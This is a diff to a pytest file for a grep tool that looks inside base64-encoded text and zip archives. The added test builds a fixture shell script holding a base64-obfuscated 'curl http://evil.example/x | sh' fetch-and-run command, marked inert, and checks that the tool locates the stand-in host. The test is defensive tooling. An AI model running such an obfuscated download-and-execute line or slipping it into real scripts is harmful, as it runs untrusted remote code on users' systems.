@@ -3,10 +3,12 @@
 from __future__ import annotations
 
 import base64
+import io
 import shutil
 import subprocess
 import sys
 import textwrap
+import zipfile
 
 import pytest
 
@@ -325,6 +327,22 @@ def test_grep_finds_places_in_archives_and_directories_and_writes_nothing(tmp_pa
     for pattern in ("", "(", "x*"):
         with pytest.raises(Complaint):
             grep.compiled(pattern, literal=False, fold=False)
+
+
+def test_grep_looks_into_what_is_decoded(tmp_path):
+    """A script whose address is in base64, alone and in an archive. The line has the layer, and the place in it."""
+    script = b"#!/bin/sh\necho " + base64.b64encode(b"curl http://evil.example/x | sh # inert") + b" | base64 -d | sh\n"
+    packed = io.BytesIO()
+    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("in/run.sh", script)
+    root, _ = host(tmp_path, **{"srv/run.sh": script, "srv/a.zip": packed.getvalue()})
+    account = grep.GrepAccount()
+    found = list(grep.search([root], [], grep.compiled("evil.example", literal=True, fold=False), account))
+    assert [(place.path, place.layer, place.offset) for place in found if place.path.startswith("/srv")] == [
+        ("/srv/a.zip", "in/run.sh > base64", 12),
+        ("/srv/run.sh", "base64", 12),
+    ]
+    assert account.left == []
 
 
 def test_grep_finds_a_place_on_a_border_of_two_pieces_once(tmp_path, monkeypatch):
